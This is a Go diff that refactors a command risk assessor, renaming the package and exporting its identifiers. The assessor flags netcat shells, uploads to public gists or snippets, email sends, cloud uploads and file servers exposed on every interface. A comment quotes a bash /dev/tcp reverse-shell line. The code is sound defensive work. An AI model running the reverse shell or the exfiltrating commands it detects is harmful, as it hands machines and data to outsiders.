@@ -1,4 +1,4 @@
-package approvals
+package risk
 
 import (
 	"fmt"
@@ -23,8 +23,8 @@ var shellPrograms = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash
 	"ash": true, "fish": true, "csh": true, "tcsh": true, "pwsh": true}
 
 // exposure records what prog's command hands to the network.
-func (as *assessor) exposure(prog string, args, ops []string) {
-	expose := func(cat RiskCategory, fact string) { as.stoppedIf(as.offline(), RiskHigh, cat, fact) }
+func (as *Assessor) exposure(prog string, args, ops []string) {
+	expose := func(cat Category, fact string) { as.stoppedIf(as.offline(), High, cat, fact) }
 	switch prog {
 	case "nc", "ncat", "netcat":
 		if fact := netcatShell(prog, args); fact != "" {
@@ -42,8 +42,8 @@ func (as *assessor) exposure(prog string, args, ops []string) {
 				where = "a public GitLab snippet"
 			}
 			for _, f := range c.ops[2:] {
-				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.display(as.abs(f), false), where))
-				as.reads(f)
+				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(f), false), where))
+				as.Reads(f)
 			}
 		}
 	case "gh", "hub":
@@ -57,8 +57,8 @@ func (as *assessor) exposure(prog string, args, ops []string) {
 				where = "a public GitHub gist"
 			}
 			for _, f := range files {
-				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.display(as.abs(f), false), where))
-				as.reads(f)
+				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(f), false), where))
+				as.Reads(f)
 			}
 		}
 	}
@@ -68,15 +68,15 @@ func (as *assessor) exposure(prog string, args, ops []string) {
 	if fact := as.servesFiles(prog, args); fact != "" && !as.offline() {
 		// Without the network (off, or ask: a namespace of its own) no
 		// other machine reaches it; a dev server is everyday work there.
-		as.add(RiskHigh, DataExfiltration, fact)
+		as.Add(High, DataExfiltration, fact)
 	}
 	if to := mailRecipients(prog, args, ops); to != "" {
-		as.add(RiskHigh, DataExfiltration, fmt.Sprintf("sends email to %s (%s)", to, prog))
+		as.Add(High, DataExfiltration, fmt.Sprintf("sends email to %s (%s)", to, prog))
 	}
 	if srcs, dest := cloudUpload(prog, args, ops); dest != "" {
 		for _, src := range srcs {
-			expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.display(as.abs(src), false), dest))
-			as.reads(src)
+			expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(src), false), dest))
+			as.Reads(src)
 		}
 	}
 }
@@ -84,8 +84,8 @@ func (as *assessor) exposure(prog string, args, ops []string) {
 // shellOnSocket records a shell whose input or output is a network
 // connection (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, or a descriptor an
 // earlier `exec N<>/dev/tcp/...` opened): a remote shell for HOST.
-func (as *assessor) shellOnSocket(host string) {
-	as.stoppedIf(as.offline(), RiskHigh, SystemModification, "gives a shell to "+host+" (a connection from bash's /dev/tcp)")
+func (as *Assessor) shellOnSocket(host string) {
+	as.stoppedIf(as.offline(), High, SystemModification, "gives a shell to "+host+" (a connection from bash's /dev/tcp)")
 }
 
 // netcatShell says what nc's command hands a connection (-e PROG, -c CMD,
@@ -374,14 +374,14 @@ func readsCommands(argv []string) bool {
 		return false
 	}
 	args := argv[1:]
-	return hasFlag(args, "-i", "-s") || len(operands(args)) == 0 && !hasFlag(args, "-c")
+	return hasFlag(args, "-i", "-s") || len(Operands(args)) == 0 && !hasFlag(args, "-c")
 }
 
 // servesFiles says what a command serves to other machines: a static file
 // server bound to every interface (python's http.server by default, php
 // -S on 0.0.0.0) hands out the directory, .env and .git included. ""
 // for one bound to this machine.
-func (as *assessor) servesFiles(prog string, args []string) string {
+func (as *Assessor) servesFiles(prog string, args []string) string {
 	switch {
 	case strings.HasPrefix(prog, "python") && wordsAt(args, "-m", "http.server") >= 0:
 		bind := optionValue(args, "-b", "--bind")
@@ -396,13 +396,13 @@ func (as *assessor) servesFiles(prog string, args []string) string {
 			dir = "."
 		}
 		port := "8000"
-		for _, op := range operands(args[wordsAt(args, "-m", "http.server")+2:]) {
+		for _, op := range Operands(args[wordsAt(args, "-m", "http.server")+2:]) {
 			if _, err := strconv.Atoi(op); err == nil {
 				port = op
 				break
 			}
 		}
-		return fmt.Sprintf("serves %s to every machine that can reach port %s (python -m http.server)", as.display(as.abs(dir), false), port)
+		return fmt.Sprintf("serves %s to every machine that can reach port %s (python -m http.server)", as.Display(as.abs(dir), false), port)
 	case prog == "php":
 		addr := optionValue(args, "-S", "")
 		host, port, _ := strings.Cut(addr, ":")
@@ -413,7 +413,7 @@ func (as *assessor) servesFiles(prog string, args []string) string {
 		if dir == "" {
 			dir = "."
 		}
-		return fmt.Sprintf("serves %s to every machine that can reach port %s (php -S)", as.display(as.abs(dir), false), port)
+		return fmt.Sprintf("serves %s to every machine that can reach port %s (php -S)", as.Display(as.abs(dir), false), port)
 	}
 	return ""
 }
